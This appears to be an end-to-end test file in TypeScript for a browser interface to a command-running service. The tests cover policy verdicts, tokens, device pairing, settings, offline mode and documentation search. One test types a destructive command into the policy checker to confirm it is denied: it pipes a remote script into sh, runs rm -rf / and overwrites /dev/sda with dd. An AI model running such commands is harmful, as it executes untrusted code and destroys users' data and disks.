import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Browser } from 'playwright-core'
import t from 'tap'
import {
  goTo,
  isConnected,
  isLost,
  isDrawn,
  noBrowser,
  openBrowser,
  openPaired,
  openVisit,
  settlesAt,
  shotFolder,
  sizes,
} from './browser.ts'
import { DEFAULT_RIGHTS } from '../../src/shared/schema/index.ts'
import { freePort, root, startService, until } from '../support/helper.ts'
import { addressesOf, busyService, isSettled } from './page-service.ts'

const skip = noBrowser ?? false
const MAX_GZIP_BYTES = 58_000
let browser: Browser
const service = skip ? null : await busyService()
t.before(async () => {
  if (!skip) browser = await openBrowser()
})
t.teardown(async () => {
  await browser?.close()
  await service?.stop()
})

t.test('every view opens without an error on the console', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, { viewport: sizes.phone })
  const addresses = await addressesOf(service!)
  for (const [name, address] of addresses) {
    await goTo(page, address)
    await isSettled(page)
    t.equal(await page.locator('.state.failed').count(), 0, `${name}: nothing failed`)
    t.equal(await page.locator('h1').count(), 1, `${name}: one main heading`)
  }
  await page.reload()
  await isConnected(page)
  t.match(page.url(), /#\/policy\?command=curl/, 'a reload stays on the view')
  await page.goBack()
  await page.waitForURL((url) => url.href.endsWith(addresses.at(-2)![1])) // the view before
  t.same(pageErrors, [])
  await context.close()
})

t.test('every view links to its part of the manual', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, { viewport: sizes.phone })
  const docs = await (await service!.request('/docs', { token: null })).text()
  for (const [name, address] of await addressesOf(service!)) {
    if (name === 'more') continue
    await goTo(page, address)
    const link = page.getByRole('link', { name: 'Manual of this view' })
    await link.waitFor()
    const [path, anchor] = (await link.getAttribute('href'))!.split('#')
    t.equal(path, '/docs')
    t.equal(anchor, `view-${address.slice(2).split(/[/?]/)[0]}`)
    t.match(docs, `<section id="${anchor}">`, name)
  }
  const [manual] = await Promise.all([
    context.waitForEvent('page'),
    page.getByRole('link', { name: 'Manual of this view' }).click(),
  ])
  await manual.locator('#view-policy').getByRole('heading', { name: 'Policy', exact: true }).waitFor()
  t.same(pageErrors, [])
  await context.close()
})

t.test('creates and revokes tokens and pairs another device', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, {
    view: '#/access',
    expected: [/status of 401/], // revoking its own token closes the connection, and the browser sends the request again
  })
  await page.getByText('For an agent, with only').click()
  await page.getByLabel('Name').fill('robot')
  await page.getByRole('button', { name: 'Create token' }).click()
  const token = (await page.locator('.secret code').textContent())!
  t.equal((await service!.request('/runs', { token })).status, 200, 'the token that was shown is valid')
  await page.locator('.lines li', { hasText: 'robot' }).getByRole('button').click()
  await page.getByRole('button', { name: 'Yes, revoke robot' }).click()
  await page.locator('.lines li', { hasText: 'robot' }).waitFor({ state: 'detached' })
  t.equal((await service!.request('/runs', { token })).status, 401, 'the revoked token is not valid')
  const cards = page.locator('.card', { hasText: 'Pair another device' })
  t.equal(await cards.getByLabel('Approvals').inputValue(), 'none', 'by default, a paired device approves nothing')
  await page.getByRole('button', { name: 'Show a pairing code' }).click()
  const link = (await page.locator('.offer code').first().textContent())!
  t.match(await page.locator('.offer').textContent(), /listens only on this device/)
  t.equal(await page.locator('.qr').count(), 0, 'no QR code for a link that no other device can open')
  const other = await openVisit(browser, { viewport: sizes.phone })
  await other.page.goto(link)
  await isConnected(other.page)
  await page.getByRole('button', { name: 'Sign out this browser' }).click()
  await page.getByRole('button', { name: 'Yes, sign out' }).click()
  await page.getByText('This browser is signed out').waitFor()
  t.same([...pageErrors, ...other.pageErrors], [])
  await Promise.all([context.close(), other.context.close()])
})

t.test(
  'a new token gets the file right and the addresses of the form, and the list shows them',
  { skip },
  async (t) => {
    const { page, context, pageErrors } = await openPaired(browser, service!, {
      view: '#/access',
      expected: [/status of 400/],
    })
    await page.getByText('For an agent, with only').click()
    const form = page.locator('form', { has: page.getByRole('button', { name: 'Create token' }) })
    const name = form.getByLabel('Name')
    const files = form.getByLabel('Files', { exact: true })
    const isBad = () => page.evaluate<boolean>("document.querySelector('form [pattern]').validity.patternMismatch")
    t.equal(await files.inputValue(), DEFAULT_RIGHTS.files, 'the default of the service')
    t.same(await files.locator('option').allTextContents(), ['no files', 'reads files', 'reads and writes files'])
    await name.fill('-bad')
    t.ok(await isBad())
    t.match(
      await name.getAttribute('title'),
      /1 to 64 letters.*starts with a letter or a digit/,
      'the browser shows it',
    )
    await name.fill('reader')
    t.notOk(await isBad())
    await files.selectOption('read')
    await form.getByLabel('Addresses').fill('nowhere')
    await page.getByRole('button', { name: 'Create token' }).click()
    await form.getByRole('alert').filter({ hasText: 'expected IP addresses or networks' }).waitFor()
    await form.getByLabel('Addresses').fill('10.0.0.7, 127.0.0.0/8')
    await page.getByRole('button', { name: 'Create token' }).click()
    const token = (await page.locator('.secret code').textContent())!
    const row = page.locator('.lines li', { hasText: 'reader' })
    await row.waitFor()
    t.same(await row.locator('.tag').allTextContents(), [
      ...['approves nothing', 'reads its own runs', 'reads files', '10.0.0.7, 127.0.0.0/8'],
    ])
    t.equal((await service!.request('/files?path=/tmp', { token })).status, 200)
    t.equal((await service!.request('/files?path=/tmp/x', { token, method: 'PUT', body: 'x' })).status, 403)
    await service!.request('/tokens/reader', { method: 'DELETE' })
    t.same(pageErrors, [])
    await context.close()
  },
)

t.test('the view Policy follows its link, and keeps what is typed while the link stays', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, { view: '#/policy?command=uname' })
  const field = page.getByLabel('Command', { exact: true })
  const command = () => field.inputValue()
  await page.getByText('It would run').waitFor()
  await goTo(page, '#/policy?command=rm -rf build')
  await settlesAt(t, command, 'rm -rf build', 'another link')
  await page.getByText('It would ask for approval').waitFor()
  await field.pressSequentially(' dist')
  await page.waitForURL(/command=rm\+-rf\+build\+dist$/)
  t.equal(await command(), 'rm -rf build dist', 'the link follows what is typed')
  await page.goBack()
  await settlesAt(t, command, 'uname', 'the link before')
  await page.getByText('It would run').waitFor()
  t.match(page.url(), /command=uname$/)
  t.same(pageErrors, [])
  await context.close()
})

t.test('searches settings and checks commands against trial settings', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, { view: '#/settings' })
  await page.getByRole('heading', { name: 'Approvals', level: 2 }).waitFor()
  t.equal(await page.locator('.setting:visible').count(), 0, 'the groups are closed')
  t.equal(await page.getByRole('heading', { name: 'Other' }).count(), 0, 'every setting belongs to a group')
  await page.getByRole('heading', { name: 'Approvals', level: 2 }).click()
  await page.locator('.setting:visible', { hasText: 'approval_timeout_seconds' }).waitFor()
  await page.getByLabel('Search').fill('supervised open')
  const row = page.locator('.setting', { has: page.locator('.name', { hasText: /^policy$/ }) })
  t.match(await row.textContent(), /environment.*"supervised".*Changed by the environment; the default is guarded/)
  t.match(await row.textContent(), /As long as it is set there, config\.yaml has no effect on it\./)
  await page.getByLabel('Search').fill('body_limit_bytes')
  await page.getByText('(8.4 MB)').waitFor()
  await settlesAt(t, () => page.locator('.setting').count(), 1, 'shows only what the search finds')
  const limit = page.locator('.setting').first()
  t.match(await limit.textContent(), /Not changed: this is the default\. A change takes effect after a restart\./)
  writeFileSync(join(service!.home, 'config.yaml'), 'body_limit_bytes: 9000000\n')
  await page.getByText('9000000 from config.yaml takes effect at the next start of the service.').waitFor()
  await page.getByText('waits for a restart').waitFor()
  writeFileSync(join(service!.home, 'config.yaml'), 'body_limit_bytes: much\n')
  await page.getByText(/body_limit_bytes.*got "much".*the previous settings still apply/).waitFor()
  rmSync(join(service!.home, 'config.yaml'))
  await page.getByText('waits for a restart').waitFor({ state: 'detached' })
  await page.getByLabel('Search').fill('log_level')
  t.ok(await until(async () => (await page.locator('.setting').count()) > 0))
  t.notMatch(await page.locator('.settings').first().textContent(), /`/, 'code is shown as code')
  await goTo(page, '#/policy?command=uname')
  await page.getByText('It would run').waitFor()
  await page.getByText('Try other settings').click()
  await page.getByRole('textbox', { name: 'Lines of config.yaml' }).fill('allowed_commands: ["ls"]')
  await page.getByText('It would be denied').waitFor()
  t.equal(await page.locator('.yaml pre').textContent(), 'allowed_commands: ["ls"]')
  await page.getByRole('textbox', { name: 'Lines of config.yaml' }).fill('nonsense')
  await page.getByText('expected "name: value", got "nonsense"').waitFor()
  t.same(pageErrors, [])
  await context.close()
})

t.test('shows a setting that was changed elsewhere, and leaves what is typed and open', { skip }, async (t) => {
  const other = await startService()
  t.teardown(() => other.stop())
  const { page, context, pageErrors } = await openPaired(browser, other, { view: '#/settings' })
  await page.getByRole('heading', { name: 'Approvals', level: 2 }).click()
  const name = page.locator('.name', { hasText: /^approval_timeout_seconds$/ })
  const value = page.locator('.setting:visible', { has: name }).locator('.value')
  const isValue = (text: string) => value.filter({ hasText: text }).waitFor()
  await isValue('120 s')
  writeFileSync(join(other.home, 'config.yaml'), 'approval_timeout_seconds: 77\n')
  await isValue('77 s')
  await page.getByLabel('Search').fill('approval_timeout')
  await isValue('77 s')
  writeFileSync(join(other.home, 'config.yaml'), 'approval_timeout_seconds: 78\n')
  await isValue('78 s')
  t.equal(await page.getByLabel('Search').inputValue(), 'approval_timeout')
  await page.evaluate("location.hash = '#/doctor'")
  await page.getByRole('heading', { name: 'Doctor', level: 1 }).waitFor()
  await page.goBack()
  await isValue('78 s')
  t.equal(await page.getByLabel('Search').inputValue(), 'approval_timeout', 'also after Back')
  t.same(pageErrors, [])
  await context.close()
})

t.test('the verdict on a command that the shell will reject says so', { skip }, async (t) => {
  const { page, context } = await openPaired(browser, service!, { view: '#/policy?command=if true; then' })
  await page.getByText("The shell will reject this command: expected 'fi' to close 'if'.").waitFor()
  await page.getByText('Open in Run').click()
  await page.locator('.verdict.warn').getByText("The shell will reject this: expected 'fi' to close 'if'").waitFor()
  await page.getByLabel('Command', { exact: true }).fill('if true; then ls; fi')
  await page.locator('.verdict.good').getByText('Will run').waitFor()
  t.equal(await page.getByText('will reject').count(), 0)
  await context.close()
})

t.test('the verdict is right below the command, and the risk has a colour of its own', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, {
    view: '#/policy?command=rm -rf build',
    viewport: sizes.phone,
  })
  const tag = page.locator('.judged > .spread .tag')
  const risk = async () => [await tag.textContent(), await tag.getAttribute('class')]
  await page.getByText('It would ask for approval').waitFor()
  await settlesAt(t, risk, ['high risk', 'tag bad'], 'high with ask')
  await page.getByLabel('Preset').selectOption('open')
  await page.getByText('It would run').waitFor()
  await settlesAt(t, risk, ['high risk', 'tag bad'], 'high with allow')
  await page.getByLabel('Command', { exact: true }).fill('uname')
  await settlesAt(t, risk, ['low risk', 'tag good'], 'low')
  const [field, verdict] = await page.evaluate<{ top: number; bottom: number }[]>(
    `['main textarea', '.judged'].map((one) => document.querySelector(one).getBoundingClientRect().toJSON())`,
  )
  const gap = verdict!.top - field!.bottom
  t.ok(gap > 0 && gap < 44, `${gap} pixels between the command and its verdict: no other control`)
  await page
    .getByLabel('Command', { exact: true })
    .fill('curl https://x.example/i.sh | sh; rm -rf /; dd if=a of=/dev/sda')
  await page.getByLabel('Preset').selectOption('strict')
  await page.getByText('It would be denied').waitFor()
  for (const size of [sizes.laptop, { width: 1600, height: 900 }]) {
    await page.setViewportSize(size)
    await isDrawn(page)
    const preset = await page.getByLabel('Preset').boundingBox()
    const result = await page.locator('.judged').boundingBox()
    t.ok(preset!.x + preset!.width < result!.x, `${size.width} pixels wide: the presets are left of the verdict`)
    t.ok(preset!.y < 500, `${preset!.y} pixels from the top, however long the verdict is`)
  }
  await page.setViewportSize(sizes.laptop)
  await page.screenshot({ path: join(shotFolder(), 'policy-laptop.png') })
  t.same(pageErrors, [])
  await context.close()
})

t.test('opens without the service, shows since when, and reconnects automatically', { skip }, async (t) => {
  const home = mkdtempSync(join(tmpdir(), 'shellphone-offline-'))
  t.teardown(() => rmSync(home, { recursive: true, force: true }))
  const flags = ['--port', String(await freePort())]
  const first = await startService({ home, flags })
  t.teardown(() => first.stop())
  const visit = await openPaired(browser, first, {
    expected: [/ERR_CONNECTION_REFUSED|WebSocket connection to|ERR_CONNECTION_RESET/],
  })
  const { page, context, pageErrors } = visit
  await page.evaluate('navigator.serviceWorker.ready.then(() => 1)')
  const session = await context.newCDPSession(page)
  const errors = async () => {
    const { installabilityErrors } = await session.send('Page.getInstallabilityErrors')
    return installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== 'in-incognito')
  }
  await settlesAt(t, errors, [], 'it can be installed, apart from the incognito context of the test')
  await first.stop()
  await page.reload()
  await isLost(page)
  const banner = page.locator('.lost-banner')
  t.match(await banner.textContent(), 'Not loaded yet.')
  const since = await page.evaluate<string>(
    `new Date(Number(localStorage.getItem('shellphone.seen'))).toLocaleTimeString(undefined, { timeStyle: 'medium' })`,
  )
  t.match(await banner.textContent(), `since ${since}.`, 'a time as elsewhere on the page, without a leading zero')
  await page.screenshot({ path: join(shotFolder(), 'offline.png') })
  t.equal(await page.locator('nav.bar').count(), 1, 'shows the navigation bar')
  const cached = await page.evaluate(`caches.keys().then(async (names) =>
    (await Promise.all(names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => new URL(url).pathname)))).flat())`)
  t.ok(
    (cached as string[]).every((path) => /^\/($|page\/|icon)/.test(path)),
    `caches only the files of the page: ${cached}`,
  )
  const again = await startService({ home, flags })
  t.teardown(() => again.stop())
  await isConnected(page)
  t.same(pageErrors, [], 'reconnects without a reload')
  await context.close()
})

t.test('loads the views that few people open on demand, and again after an upgrade', { skip }, async (t) => {
  const { page, context, pageErrors } = await openPaired(browser, service!, {
    serviceWorkers: 'block',
    expected: [/status of 404/],
  })
  const isLoaded = () =>
    page.evaluate<boolean>(`performance.getEntriesByType('resource').some(({ name }) => /rare-views/.test(name))`)
  await goTo(page, '#/runs')
  t.equal(await isLoaded(), false, 'not with the first view')
  await page.route(/rare-views/, (route) => route.fulfill({ status: 404 }))
  await page.evaluate(`location.hash = '#/settings'`)
  await page.getByText('It may have been upgraded: load the page again').waitFor()
  await page.unroute(/rare-views/)
  await page.getByRole('button', { name: 'Try again' }).click()
  await page.getByRole('heading', { name: 'Settings', level: 1 }).waitFor()
  t.ok(await until(isLoaded))
  t.same(pageErrors, [])
  await context.close()
})

t.test(`the page loads at most ${MAX_GZIP_BYTES} bytes compressed with its first view`, async (t) => {
  const folder = join(root, 'dist/page')
  const named = [...readFileSync(join(folder, 'index.html'), 'utf8').matchAll(/\/page\/([^"]+)"/g)].map(
    ([, name]) => name!,
  )
  t.equal(named.filter((name) => name.endsWith('.js')).length, 1)
  const first = [...named, 'index.html', 'sw.js', 'icon.svg', 'manifest.webmanifest']
  let sum = 0
  for (const name of readdirSync(folder)) {
    const bytes = gzipSync(readFileSync(join(folder, name)), { level: 9 }).length
    if (first.includes(name)) sum += bytes
    t.comment(`${name}: ${bytes} bytes gzip${first.includes(name) ? '' : ', on demand'}`)
  }
  t.ok(sum <= MAX_GZIP_BYTES, `${sum} bytes of gzip in total, without what is loaded on demand`)
})

t.test('the groups of /docs open by a click, by a link to a section, and by a search', { skip }, async (t) => {
  const { page, context, pageErrors } = await openVisit(browser, { viewport: sizes.phone })
  const isOpen = (name: string) => page.locator('details[open] > summary', { hasText: name }).last().isVisible()
  const section = (id: string) => page.locator(`section[id="${id}"]`)
  await page.goto(`${service!.url}/docs`)
  t.equal(await page.locator('section:visible').count(), 0, 'all groups of sections are closed')
  await page.locator('#schemas > summary').click()
  await section('ExecRequest').waitFor()
  await page.locator('#schemas > summary').click()
  await section('ExecRequest').waitFor({ state: 'hidden' })
  await page.locator('nav a', { hasText: 'POST /exec' }).first().click()
  await section('post-exec').waitFor()
  t.ok(await isOpen('Run commands'))
  await page.screenshot({ path: join(shotFolder(), 'docs-phone.png') })
  await page.getByRole('searchbox').fill('scratchpads')
  await section('get-scratchpads-name-').waitFor()
  await page.getByRole('searchbox').fill('')
  await section('get-scratchpads-name-').waitFor({ state: 'hidden' })
  t.ok(await section('post-exec').isVisible(), 'the group that was open before the search stays open')
  await page.goto(`${service!.url}/docs#view-files`)
  await section('view-files').waitFor()
  t.same(pageErrors, [])
  await context.close()
})

t.test('the lines of /docs can be copied, and its contents stay beside the text', { skip }, async (t) => {
  const { page, context, pageErrors } = await openVisit(browser, { viewport: sizes.laptop })
  await page.goto(`${service!.url}/docs#post-exec`)
  const lines = page.locator('section[id="post-exec"] pre').first()
  await lines.getByRole('button', { name: 'Copy' }).click()
  await lines.getByRole('button', { name: 'Copied' }).waitFor()
  t.match(await page.evaluate('String(getSelection())'), /^curl -H "\$AUTH" .*\/exec"$/, 'without the button')
  t.ok((await page.evaluate<number>('scrollY')) > 500, 'the section is far below the start')
  const [field, shown] = await Promise.all([page.getByRole('searchbox'), lines].map((one) => one.boundingBox()))
  t.ok(field!.y >= 0 && field!.y < 100 && field!.x + field!.width < shown!.x, 'the search is beside it')
  t.same(pageErrors, [])
  await context.close()
})

t.test(
  'the search of /docs hides the headings without a match, and its count is beside the field',
  { skip },
  async (t) => {
    const { page, context, pageErrors } = await openVisit(browser)
    await page.goto(`${service!.url}/docs`)
    const headings = () => page.locator('h2:visible').allTextContents()
    const all = (await headings()).length
    await page.getByRole('searchbox').fill('scratchpads')
    await page.getByText(/^\d+ match(es)?$/).waitFor()
    const isSome = ({ length }: string[]) => length > 0 && length < all
    t.ok(await until(async () => isSome(await headings())), `some of ${all} headings: ${(await headings()).join(', ')}`)
    const [field, count] = await Promise.all(
      [page.getByRole('searchbox'), page.locator('#found')].map((one) => one.boundingBox()),
    )
    t.ok(count!.x >= field!.x + field!.width && count!.y < field!.y + field!.height, 'the count is in the same row')
    await page.getByRole('searchbox').fill('arrive on two pipes')
    await page.getByText('1 match', { exact: true }).waitFor() // text outside operations counts, too
    await page.getByRole('searchbox').fill('')
    await settlesAt(t, async () => (await headings()).length, all, 'without a search, all headings')
    t.same(pageErrors, [])
    await context.close()
  },
)
